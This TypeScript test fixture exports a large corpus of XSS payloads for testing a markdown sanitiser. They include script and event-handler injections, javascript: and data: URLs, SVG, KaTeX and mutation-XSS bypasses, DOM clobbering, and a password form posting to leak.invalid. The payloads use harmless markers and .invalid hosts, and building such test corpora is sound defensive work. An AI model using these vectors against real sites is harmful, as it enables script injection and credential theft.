/**
 * Hostile markdown/HTML used by the unit XSS test (app/markdown/xss.test.ts) and by the Chromium
 * test (tests/e2e/markdown-xss.test.ts). Every payload that would run sets `window.__pwned`
 * (or `parent.__pwned` from a frame) or opens a dialog; every payload that would leak fetches a
 * URL on `leak.invalid`. Images that are allowed point at `img.invalid`, so they fail to load and
 * any surviving `onerror` fires.
 *
 * Sources of the vector families: OWASP XSS Filter Evasion Cheat Sheet, the HTML5 Security
 * Cheatsheet, published DOMPurify/sanitize-html mutation-XSS bypasses, and KaTeX's security notes.
 */
export type XssFamily =
  | "script"
  | "event-handler"
  | "javascript-url"
  | "data-url"
  | "svg"
  | "frame"
  | "object-embed"
  | "meta-base-link"
  | "form"
  | "css"
  | "markdown"
  | "math"
  | "comment"
  | "nesting"
  | "mxss"
  | "clobbering";

export type XssCase = {
  name: string;
  family: XssFamily;
  markdown: string;
  /**
   * True when this payload, inserted into a page WITHOUT sanitising, executes in Chromium without
   * a click. The browser test uses these as a positive control that its detection works.
   */
  executesUnsanitised?: true;
};

const P = "window.__pwned=1";

export const xssCorpus: readonly XssCase[] = [
  // --- script tags -----------------------------------------------------------------------------
  { name: "script block", family: "script", markdown: `<script>${P}</script>`, executesUnsanitised: true },
  { name: "script uppercase", family: "script", markdown: `<SCRIPT>${P}</SCRIPT>` },
  { name: "script inline in paragraph", family: "script", markdown: `Some text <script>${P}</script> more text.` },
  { name: "script with data src", family: "script", markdown: `<script src="data:text/javascript,${P}"></script>` },
  { name: "script module", family: "script", markdown: `<script type="module">${P}</script>` },
  { name: "script split by nested script", family: "script", markdown: `<scr<script>ipt>${P}</scr</script>ipt>` },
  { name: "script double angle", family: "script", markdown: `<<script>script>${P}<</script>/script>` },
  { name: "script newline in tag", family: "script", markdown: `<script\n>${P}</script\n>` },
  { name: "script self-closing", family: "script", markdown: `<script src="https://leak.invalid/script.js"/>` },
  { name: "script in fenced code stays text", family: "script", markdown: "```html\n<script>" + P + "</script>\n```" },
  { name: "script in inline code stays text", family: "script", markdown: "`<script>" + P + "</script>`" },
  { name: "script in table cell", family: "script", markdown: `| a |\n|---|\n| <script>${P}</script> |` },
  { name: "script in list item", family: "script", markdown: `- item <script>${P}</script>` },

  // --- event handlers --------------------------------------------------------------------------
  {
    name: "img onerror",
    family: "event-handler",
    markdown: `<img src="https://img.invalid/x.png" onerror="${P}">`,
    executesUnsanitised: true,
  },
  { name: "img onerror uppercase", family: "event-handler", markdown: `<IMG SRC=x ONERROR=${P}>` },
  { name: "img onerror slashes", family: "event-handler", markdown: `<img/src=x/onerror=${P}>` },
  { name: "img onerror backtick src", family: "event-handler", markdown: "<img src=`x`onerror=" + P + ">" },
  {
    name: "img onerror entity-encoded body",
    family: "event-handler",
    markdown: `<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__pwned=1">`,
  },
  { name: "img onerror hex entity", family: "event-handler", markdown: `<img src=x onerror="&#x77;indow.__pwned=1">` },
  { name: "img onerror newline before", family: "event-handler", markdown: `<img src=x\nonerror=${P}>` },
  { name: "img onload", family: "event-handler", markdown: `<img src="https://img.invalid/y.png" onload="${P}">` },
  { name: "body onload", family: "event-handler", markdown: `<body onload="${P}">` },
  {
    name: "div onmouseover",
    family: "event-handler",
    markdown: `<div onmouseover="${P}" onpointerenter="${P}">hover me</div>`,
  },
  { name: "a onclick", family: "event-handler", markdown: `<a href="#" onclick="${P}">click me</a>` },
  { name: "a onfocus autofocus", family: "event-handler", markdown: `<a href="#x" onfocus="${P}" autofocus tabindex="0">focus</a>` },
  {
    name: "details ontoggle",
    family: "event-handler",
    markdown: `<details open ontoggle="${P}"><summary>x</summary>y</details>`,
    executesUnsanitised: true,
  },
  { name: "input autofocus onfocus", family: "event-handler", markdown: `<input autofocus onfocus="${P}">` },
  { name: "textarea autofocus", family: "event-handler", markdown: `<textarea autofocus onfocus="${P}">x</textarea>` },
  { name: "select autofocus", family: "event-handler", markdown: `<select autofocus onfocus="${P}"><option>a</option></select>` },
  { name: "button onclick", family: "event-handler", markdown: `<button onclick="${P}">press</button>` },
  { name: "video onerror", family: "event-handler", markdown: `<video src="https://img.invalid/v.mp4" onerror="${P}"></video>` },
  { name: "video source onerror", family: "event-handler", markdown: `<video controls><source src="x" onerror="${P}"></video>` },
  { name: "audio onerror", family: "event-handler", markdown: `<audio src="x" onerror="${P}"></audio>` },
  { name: "marquee onstart", family: "event-handler", markdown: `<marquee onstart="${P}">m</marquee>` },
  { name: "summary onclick", family: "event-handler", markdown: `<details><summary onclick="${P}">open</summary>z</details>` },
  { name: "table onmouseover", family: "event-handler", markdown: `<table onmouseover="${P}"><tr><td onclick="${P}">cell</td></tr></table>` },
  { name: "heading onclick", family: "event-handler", markdown: `<h2 onclick="${P}">Click heading</h2>` },
  { name: "dialog alert handler", family: "event-handler", markdown: `<img src=x onerror=alert(1)><img src=x onerror=confirm(1)><img src=x onerror=prompt(1)>` },
  { name: "onanimationstart", family: "event-handler", markdown: `<p style="animation-name:x" onanimationstart="${P}">anim</p>` },

  // --- javascript: / vbscript: URLs -------------------------------------------------------------
  { name: "md link javascript", family: "javascript-url", markdown: `[click](javascript:${P})` },
  { name: "md link mixed case", family: "javascript-url", markdown: `[click](JaVaScRiPt:${P})` },
  { name: "md link entity colon", family: "javascript-url", markdown: `[click](javascript&#58;${P})` },
  { name: "md link entity first letter", family: "javascript-url", markdown: `[click](&#106;avascript:${P})` },
  { name: "md link named colon entity", family: "javascript-url", markdown: `[click](javascript&colon;${P})` },
  { name: "md link angle brackets", family: "javascript-url", markdown: `[click](<javascript:${P}>)` },
  { name: "md link leading space", family: "javascript-url", markdown: `[click]( javascript:${P} )` },
  { name: "md reference link", family: "javascript-url", markdown: `[click][evil]\n\n[evil]: javascript:${P}` },
  { name: "md image javascript", family: "javascript-url", markdown: `![img](javascript:${P})` },
  { name: "md link percent-encoded", family: "javascript-url", markdown: `[click](javascript:window%2E__pwned%3D1)` },
  { name: "autolink javascript", family: "javascript-url", markdown: `<javascript:${P}>` },
  { name: "autolink vbscript", family: "javascript-url", markdown: `<vbscript:msgbox(1)>` },
  { name: "html a javascript", family: "javascript-url", markdown: `<a href="javascript:${P}">click</a>` },
  { name: "html a leading spaces", family: "javascript-url", markdown: `<a href="   javascript:${P}">click</a>` },
  { name: "html a tab entity", family: "javascript-url", markdown: `<a href="java&#x09;script:${P}">click</a>` },
  { name: "html a newline entity", family: "javascript-url", markdown: `<a href="jav&#x0A;ascript:${P}">click</a>` },
  { name: "html a literal tab", family: "javascript-url", markdown: `<a href="java\tscript:${P}">click</a>` },
  { name: "html a control char", family: "javascript-url", markdown: `<a href="\u0001javascript:${P}">click</a>` },
  {
    name: "html a full hex entities",
    family: "javascript-url",
    markdown: `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${P}">click</a>`,
  },
  { name: "html a zero-padded entity", family: "javascript-url", markdown: `<a href="&#0000106avascript:${P}">click</a>` },
  { name: "html a uppercase entity", family: "javascript-url", markdown: `<a href="jav&#x41;script:${P}">click</a>` },
  { name: "html a target blank javascript", family: "javascript-url", markdown: `<a href="javascript:${P}" target="_blank">click</a>` },
  { name: "html a vbscript", family: "javascript-url", markdown: `<a href="vbscript:msgbox(1)">click</a> [vb](VBScript:msgbox(1))` },
  { name: "html area javascript", family: "javascript-url", markdown: `<map name="m"><area shape="rect" coords="0,0,100,100" href="javascript:${P}"></map><img src=x usemap="#m">` },
  { name: "blockquote cite javascript", family: "javascript-url", markdown: `<blockquote cite="javascript:${P}">q</blockquote>` },
  { name: "a xlink href", family: "javascript-url", markdown: `<a xlink:href="javascript:${P}">x</a>` },
  {
    name: "polyglot",
    family: "javascript-url",
    markdown:
      "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e\n\n" +
      "<a href=\"jaVasCript:/*-/*`/*\\`/*'/*&quot;/**/(/* */oNcliCk=alert() )//\">poly</a>",
  },

  // --- data: URLs -------------------------------------------------------------------------------
  {
    name: "md link data html",
    family: "data-url",
    markdown: "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
  },
  { name: "html a data html", family: "data-url", markdown: `<a href="data:text/html,<script>${P}</script>">click</a>` },
  { name: "html a DATA uppercase", family: "data-url", markdown: `<a href="DATA:text/html,<script>${P}</script>">click</a>` },
  {
    name: "img data svg",
    family: "data-url",
    markdown: `<img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='${P}'/>">`,
  },
  { name: "img srcset javascript and data", family: "data-url", markdown: `<img srcset="javascript:${P} 1x, data:image/png;base64,AAAA 2x" src="https://img.invalid/ok.png">` },
  {
    name: "picture source data",
    family: "data-url",
    markdown: `<picture><source srcset="data:image/svg+xml,<svg onload='${P}'/>" media="(min-width:1px)"><img src="https://img.invalid/p.png"></picture>`,
  },
  { name: "video poster javascript", family: "data-url", markdown: `<video poster="javascript:${P}" src="data:video/mp4,x"></video>` },

  // --- SVG and MathML ---------------------------------------------------------------------------
  { name: "svg onload", family: "svg", markdown: `<svg onload="${P}"></svg>`, executesUnsanitised: true },
  { name: "svg script", family: "svg", markdown: `<svg><script>${P}</script></svg>` },
  { name: "svg script href", family: "svg", markdown: `<svg><script href="data:,${P}"/></svg>` },
  { name: "svg a xlink javascript", family: "svg", markdown: `<svg><a xlink:href="javascript:${P}"><text x="20" y="20">click</text></a></svg>` },
  { name: "svg animate onbegin", family: "svg", markdown: `<svg><animate onbegin="${P}" attributeName="x" dur="1s"/></svg>` },
  { name: "svg set href", family: "svg", markdown: `<svg><a><set attributeName="href" to="javascript:${P}"/><text y="20">x</text></a></svg>` },
  { name: "svg foreignObject", family: "svg", markdown: `<svg><foreignObject><img src=x onerror="${P}"></foreignObject></svg>` },
  { name: "svg use data", family: "svg", markdown: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${P}'/></svg>#x"/></svg>` },
  { name: "svg uppercase", family: "svg", markdown: `<SVG/ONLOAD=${P}>` },
  { name: "math href", family: "svg", markdown: `<math href="javascript:${P}">click</math>` },
  { name: "math maction", family: "svg", markdown: `<math><maction actiontype="statusline" xlink:href="javascript:${P}">x</maction></math>` },

  // --- frames and srcdoc ------------------------------------------------------------------------
  { name: "iframe srcdoc", family: "frame", markdown: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: "iframe srcdoc entities", family: "frame", markdown: `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;"></iframe>` },
  { name: "iframe javascript src", family: "frame", markdown: `<iframe src="javascript:parent.__pwned=1"></iframe>` },
  { name: "iframe data src", family: "frame", markdown: `<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>` },
  { name: "iframe uppercase", family: "frame", markdown: `<IFRAME SRC="https://leak.invalid/frame"></IFRAME>` },
  { name: "frameset", family: "frame", markdown: `<frameset onload="${P}"><frame src="javascript:parent.__pwned=1"></frameset>` },

  // --- object / embed / applet ------------------------------------------------------------------
  { name: "object javascript", family: "object-embed", markdown: `<object data="javascript:${P}"></object>` },
  { name: "object data html", family: "object-embed", markdown: `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>` },
  { name: "object type svg", family: "object-embed", markdown: `<object type="image/svg+xml" data="https://leak.invalid/obj.svg"></object>` },
  { name: "embed javascript", family: "object-embed", markdown: `<embed src="javascript:${P}">` },
  { name: "embed svg", family: "object-embed", markdown: `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${P}'/>">` },
  { name: "applet", family: "object-embed", markdown: `<applet code="x" codebase="javascript:${P}"></applet>` },

  // --- meta / base / link -----------------------------------------------------------------------
  { name: "meta refresh javascript", family: "meta-base-link", markdown: `<meta http-equiv="refresh" content="0;url=javascript:${P}">` },
  { name: "meta refresh leak", family: "meta-base-link", markdown: `<meta http-equiv="refresh" content="0;url=https://leak.invalid/meta">` },
  { name: "meta csp", family: "meta-base-link", markdown: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">` },
  { name: "base href javascript", family: "meta-base-link", markdown: `<base href="javascript:${P}//">\n\n[relative](foo/bar)` },
  { name: "base href leak", family: "meta-base-link", markdown: `<base href="https://leak.invalid/">\n\n![rel](images/a.png)` },
  { name: "link stylesheet", family: "meta-base-link", markdown: `<link rel="stylesheet" href="https://leak.invalid/style.css">` },
  { name: "link import", family: "meta-base-link", markdown: `<link rel="import" href="data:text/html,<script>${P}</script>">` },

  // --- forms ------------------------------------------------------------------------------------
  {
    name: "form posts elsewhere",
    family: "form",
    markdown: `<form action="https://leak.invalid/form" method="post"><input name="password" type="password"><input type="submit" value="Log in"></form>`,
  },
  { name: "button formaction", family: "form", markdown: `<button formaction="javascript:${P}">go</button>` },
  { name: "form javascript action", family: "form", markdown: `<form action="javascript:${P}"><button type="submit">submit</button></form>` },
  { name: "input image onerror", family: "form", markdown: `<input type="image" src="x" onerror="${P}">` },
  { name: "input hidden", family: "form", markdown: `<input type="hidden" name="csrf" value="x"><input type="text" value="phish">` },
  { name: "isindex", family: "form", markdown: `<isindex action="javascript:${P}" type="image">` },
  { name: "keygen autofocus", family: "form", markdown: `<keygen autofocus onfocus="${P}">` },

  // --- CSS --------------------------------------------------------------------------------------
  { name: "style element leak", family: "css", markdown: `<style>body{background:url(https://leak.invalid/style-el)}</style>` },
  { name: "style element import", family: "css", markdown: `<style>@import "https://leak.invalid/import.css";</style>` },
  { name: "style url javascript", family: "css", markdown: `<div style="background:url(javascript:${P})">bg</div>` },
  { name: "style expression", family: "css", markdown: `<div style="width: expression(${P})">expr</div>` },
  {
    name: "style position fixed overlay",
    family: "css",
    markdown: `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</div>`,
  },
  { name: "style position absolute", family: "css", markdown: `<div style="position:absolute;top:-1000px;left:0">abs</div>` },
  { name: "style allowed then fixed", family: "css", markdown: `<div style="text-align:center;position:fixed;top:0">mixed</div>` },
  { name: "style escaped property", family: "css", markdown: `<div style="pos\\ition:fixed;top:0;left:0">esc</div>` },
  { name: "style comment in property", family: "css", markdown: `<div style="position/**/:fixed;top:0">cmt</div>` },
  { name: "style entity-encoded", family: "css", markdown: `<div style="position&#58;fixed;top:0;left:0">ent</div>` },
  { name: "style url quoted leak", family: "css", markdown: `<div style="background-image:url(&quot;https://leak.invalid/css2&quot;)">q</div>` },
  { name: "style url escaped", family: "css", markdown: `<div style="text-align:center;background:u\\rl(https://leak.invalid/esc)">e</div>` },
  { name: "style moz-binding behavior", family: "css", markdown: `<div style="-moz-binding:url(https://leak.invalid/xbl);behavior:url(x.htc)">b</div>` },
  { name: "style important", family: "css", markdown: `<div style="color:red !important;display:none">imp</div>` },
  { name: "style negative margin", family: "css", markdown: `<div style="margin-top:-9999px;transform:translateY(-100vh)">neg</div>` },
  { name: "style width escape", family: "css", markdown: `<div style="width:500%;height:99999px">wide</div>` },
  { name: "style in color value", family: "css", markdown: `<span style="color:red;background:url(https://leak.invalid/c)">c</span>` },
  { name: "style at-rule", family: "css", markdown: `<div style="@import 'https://leak.invalid/imp'">at</div>` },
  { name: "style content", family: "css", markdown: `<p style="color:expression(alert(1))">x</p>` },

  // --- markdown-specific ------------------------------------------------------------------------
  { name: "link title breakout", family: "markdown", markdown: `[x](https://a.invalid "t\\" onmouseover=\\"${P}")` },
  { name: "link destination breakout", family: "markdown", markdown: `[x](https://a.invalid/"><img src=x onerror=${P}>)` },
  { name: "image alt breakout", family: "markdown", markdown: `![" onerror="${P}](https://img.invalid/a.png)` },
  { name: "gfm autolink quote", family: "markdown", markdown: `http://a.invalid/"onmouseover="${P}"` },
  { name: "gfm www autolink", family: "markdown", markdown: `www.a.invalid/<img src=x onerror=${P}>` },
  { name: "fence language injection", family: "markdown", markdown: "```\"><img src=x onerror=" + P + ">\ncode\n```" },
  { name: "fence meta injection", family: "markdown", markdown: "```python onload=" + P + "\nprint(1)\n```" },
  { name: "footnote label injection", family: "markdown", markdown: `Text[^<img src=x onerror=${P}>]\n\n[^<img src=x onerror=${P}>]: note` },
  { name: "heading text injection", family: "markdown", markdown: `## <img src=x onerror=${P}> "quoted" 'heading' & more` },
  { name: "table cell injection", family: "markdown", markdown: `| h |\n|---|\n| <img src=x onerror=${P}> |` },
  { name: "task list injection", family: "markdown", markdown: `- [x] <input type=checkbox onclick=${P}> task` },
  { name: "relative link injection", family: "markdown", markdown: `[rel](../"><script>${P}</script>) ![rel](./a"onerror="${P}.png)` },
  { name: "html inside link text", family: "markdown", markdown: `[<img src=x onerror=${P}>](https://a.invalid)` },
  { name: "target blank tabnabbing", family: "markdown", markdown: `<a href="https://a.invalid" target="_blank" rel="opener">tab</a>` },
  { name: "ping and download", family: "markdown", markdown: `<a href="https://a.invalid" ping="https://leak.invalid/ping" download>dl</a>` },

  // --- math / KaTeX -----------------------------------------------------------------------------
  { name: "katex href", family: "math", markdown: `$\\href{javascript:${P}}{click}$` },
  { name: "katex url", family: "math", markdown: `$\\url{javascript:${P}}$` },
  { name: "katex htmlStyle overlay", family: "math", markdown: `$\\htmlStyle{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{x}$` },
  { name: "katex htmlClass and id", family: "math", markdown: `$\\htmlClass{heading-anchor}{x}\\htmlId{__pwned}{y}\\htmlData{onclick=${P}}{z}$` },
  { name: "katex includegraphics", family: "math", markdown: `$\\includegraphics{https://leak.invalid/katex.png}$` },
  { name: "katex annotation breakout", family: "math", markdown: `$$\\text{</annotation></semantics></math><img src=x onerror=${P}>}$$` },
  { name: "katex huge rule", family: "math", markdown: `$\\rule{10000em}{10000em}\\kern{-10000em}\\hspace{-10000em}$` },
  { name: "katex macro bomb", family: "math", markdown: `$\\def\\a{\\a\\a}\\a$` },
  { name: "katex color injection", family: "math", markdown: `$\\textcolor{red;position:fixed}{x}\\color{url(javascript:alert(1))}{y}$` },
  { name: "katex via raw html code", family: "math", markdown: `<code class="language-math math-display">\\href{javascript:${P}}{x}</code>` },
  { name: "katex math fence", family: "math", markdown: "```math\n\\href{javascript:" + P + "}{x}\n```" },
  { name: "math dollars around html", family: "math", markdown: `$<img src=x onerror=${P}>$ and $$<script>${P}</script>$$` },

  // --- HTML comments ----------------------------------------------------------------------------
  { name: "comment closes early", family: "comment", markdown: `<!-- --><script>${P}</script> -->` },
  { name: "comment abrupt close", family: "comment", markdown: `<!--><img src=x onerror=${P}>-->` },
  { name: "conditional comment", family: "comment", markdown: `<!--[if gte IE 4]><script>${P}</script><![endif]-->` },
  { name: "comment in attribute", family: "comment", markdown: `<!-- <a title="--><img src=x onerror=${P}>"> -->` },
  { name: "comment bang close", family: "comment", markdown: `<!-- x --!><img src=x onerror=${P}>` },
  { name: "cdata", family: "comment", markdown: `<![CDATA[><img src=x onerror=${P}>]]>` },
  { name: "processing instruction", family: "comment", markdown: `<?xml version="1.0"?><img src=x onerror=${P}>` },

  // --- nesting and mismatched tags --------------------------------------------------------------
  { name: "nested anchors", family: "nesting", markdown: `<a href="https://a.invalid"><a href="javascript:${P}">nested</a></a>` },
  { name: "mismatched close", family: "nesting", markdown: `<div><p><span><img src=x onerror=${P}></div></span></p>` },
  { name: "unclosed table", family: "nesting", markdown: `<table><tr><td><img src=x onerror=${P}></table>` },
  { name: "attribute closes tag", family: "nesting", markdown: `<p title="</p><img src=x onerror=${P}>">x</p>` },
  { name: "heading in link", family: "nesting", markdown: `<a href="https://a.invalid"><h2>Heading inside a link</h2></a>` },
  { name: "unterminated tag", family: "nesting", markdown: `<div id="x"><img src=x onerror=${P}//` },
  { name: "deep nesting", family: "nesting", markdown: "<div>".repeat(500) + `<img src=x onerror=${P}>` + "</div>".repeat(500) },
  { name: "deep blockquotes", family: "nesting", markdown: "> ".repeat(200) + `<img src=x onerror=${P}>` },

  // --- mutation XSS -----------------------------------------------------------------------------
  { name: "noscript title", family: "mxss", markdown: `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>` },
  { name: "noscript style", family: "mxss", markdown: `<noscript><style></noscript><img src=x onerror=${P}></style></noscript>` },
  { name: "svg p style", family: "mxss", markdown: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">` },
  { name: "math mglyph style", family: "mxss", markdown: `<math><mtext><table><mglyph><style><img src=x onerror=${P}>` },
  {
    name: "form math mglyph",
    family: "mxss",
    markdown: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
  },
  { name: "xmp title", family: "mxss", markdown: `<xmp><p title="</xmp><img src=x onerror=${P}>"></xmp>` },
  { name: "textarea title", family: "mxss", markdown: `<textarea><p title="</textarea><img src=x onerror=${P}>"></textarea>` },
  { name: "title element", family: "mxss", markdown: `<title><img src=x onerror=${P}></title>` },
  { name: "template", family: "mxss", markdown: `<template><img src=x onerror=${P}></template>` },
  {
    name: "select template style",
    family: "mxss",
    markdown: `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${P}>">`,
  },
  { name: "plaintext", family: "mxss", markdown: `<plaintext><img src=x onerror=${P}>` },
  { name: "noembed", family: "mxss", markdown: `<noembed><img title="</noembed><img src=x onerror=${P}>"></noembed>` },
  { name: "iframe text", family: "mxss", markdown: `<iframe><img title="</iframe><img src=x onerror=${P}>"></iframe>` },
  { name: "svg style cdata", family: "mxss", markdown: `<svg><style><![CDATA[</style><img src=x onerror=${P}>]]></style></svg>` },
  { name: "namespace confusion", family: "mxss", markdown: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${P} src=1>">` },

  // --- DOM clobbering ---------------------------------------------------------------------------
  // Unprefixed, these ids and names would make `window.__pwned` the element itself.
  { name: "id clobbers global", family: "clobbering", markdown: `<div id="__pwned">clobber</div>` },
  { name: "name clobbers global", family: "clobbering", markdown: `<img name="__pwned" src="https://img.invalid/c.png"><a name="__pwned">a</a>` },
  { name: "heading slug clobbers global", family: "clobbering", markdown: `## __pwned` },
  { name: "form clobbering document", family: "clobbering", markdown: `<form name="getElementById"></form><img name="cookie">` },
  { name: "footnote id clobber", family: "clobbering", markdown: `Note[^__pwned]\n\n[^__pwned]: clobber` },
];
